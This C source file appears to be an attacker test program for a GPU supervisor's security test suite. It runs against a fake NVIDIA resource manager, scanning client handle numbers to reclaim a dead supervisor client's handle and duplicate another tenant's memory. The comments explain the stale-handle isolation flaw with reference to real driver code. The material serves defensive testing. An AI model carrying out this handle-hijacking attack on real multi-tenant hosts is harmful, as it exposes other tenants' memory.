/* SPDX-License-Identifier: MIT */
/*
 * stale_client - an attacker on the host, outside any sandbox, that takes
 * the handles of dead clients to dup another tenant's memory (the agent
 * tier's stalehandle-runc).
 *
 * The supervisor maps a workload's memory through UVM by sharing it with
 * its own RM client (RS_SHARE_TYPE_CLIENT, naming that client's handle:
 * own_rm.h). That client dies with the agent (SIGKILL, restart), the
 * container lives on (the keeper), and a policy still on the memory names
 * a handle nobody holds. RM gives a new client any free handle its maker
 * asks for (serverCreateEntryAndLockForNewClient, rs_server.c, 580.95.05;
 * the fake's alloc_client does the same), and client handles come from a
 * small known space (the fake's FAKE_CLIENT_HANDLE_BASE onwards, as the
 * real driver's 0xc1d00000 onwards): so this program asks for each handle
 * of SCAN from that base with an RM_ALLOC of NV01_ROOT_CLIENT, makes a
 * device under each client it gets (the dup's parent), and tries an
 * RM_DUP_OBJECT of the victim's memory into it. It keeps whatever it got
 * (a dup holds the memory in the driver) until the file HOLD exists.
 *
 * Prints "taken=N busy=M other=O dups_ok=K dup=0x.. covered=0|1": handles
 * it got, handles already live, handles refused otherwise (or whose device
 * failed), dups that succeeded, the best dup status (0x0 if
 * any succeeded; else the last refusal's, or "none" when no dup was
 * tried), and whether the scan covered every client handle the fake has
 * handed out (so that a refused dup means something: see covered()).
 * Writes HOLD.ready when done.
 *
 *   stale_client CLIENT MEMORY SCAN HOLD
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

#include "fake_rm.h"
#include "rmclient.h"

#define WAIT_STEP_NS 20000000L /* 20 ms */
#define WAIT_MAX_STEPS 1500    /* 30 s: the case's own timeout ends it sooner */
#define PATH_LEN 512
/* The handle of the attacker's dup, under its device. */
#define ATTACK_DUP RMC_H_MEM_BASE

/* The fake hands out client handles in order from its base, skipping
 * live ones (fake_rm.c alloc_client). Once every handle of the scan is
 * live (taken here, or someone's), a client left to the fake's choice
 * gets exactly base + scan if, and only if, every handle it ever handed
 * out lies inside the scan; otherwise it gets a higher one. So covered
 * means the supervisor's dead client was among the handles tried. */
static int covered(int fd, uint32_t scan)
{
	nv_handle_t picked = 0;

	if (rmc_alloc_client(fd, NULL, &picked) != NV_OK)
		return 0;
	return picked == FAKE_CLIENT_HANDLE_BASE + scan;
}

static void wait_for_file(const char *path)
{
	struct timespec step = { 0, WAIT_STEP_NS };

	for (int i = 0; i < WAIT_MAX_STEPS && access(path, F_OK) != 0; i++)
		nanosleep(&step, NULL);
}

int main(int argc, char **argv)
{
	if (argc != 5) {
		fprintf(stderr, "usage: stale_client CLIENT MEMORY SCAN HOLD\n");
		return 2;
	}
	nv_handle_t victim = (nv_handle_t)strtoul(argv[1], NULL, 0);
	nv_handle_t mem = (nv_handle_t)strtoul(argv[2], NULL, 0);
	uint32_t scan = (uint32_t)strtoul(argv[3], NULL, 0);
	int fd = rmc_open_ctl();
	unsigned taken = 0, busy = 0, other = 0, dups_ok = 0;
	rmc_status_t best = NV_OK;
	bool tried = false;

	if (fd < 0) {
		printf("stale_client: cannot open the control file (errno %d)\n", -fd);
		return 2;
	}
	for (uint32_t i = 0; i < scan; i++) {
		/* The client at the handle asked for, with a device (and
		 * subdevice) under it on our file; RM refuses a live handle
		 * with NV_ERR_INSERT_DUPLICATE_NAME. */
		struct rmc_session s;
		rmc_status_t st = rmc_session_open_client(&s, fd, FAKE_CLIENT_HANDLE_BASE + i);
		if (st != NV_OK) {
			if (st == NV_ERR_INSERT_DUPLICATE_NAME)
				busy++;
			else
				other++;
			continue;
		}
		taken++;
		nv_handle_t d = ATTACK_DUP;
		st = rmc_dup(fd, NULL, s.client, s.device, &d, victim, mem);
		if (st == NV_OK)
			dups_ok++;
		else if (!tried || best != NV_OK)
			best = st;
		tried = true;
	}
	int cov = covered(fd, scan);
	printf("taken=%u busy=%u other=%u dups_ok=%u dup=", taken, busy, other, dups_ok);
	if (!tried)
		printf("none");
	else
		printf("0x%x", dups_ok ? NV_OK : best);
	printf(" covered=%d\n", cov);
	fflush(stdout);

	char ready[PATH_LEN];
	snprintf(ready, sizeof(ready), "%s.ready", argv[4]);
	int r = open(ready, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (r >= 0)
		close(r);
	/* What the dup holds lives until our file goes. */
	wait_for_file(argv[4]);
	close(fd);
	return 0;
}
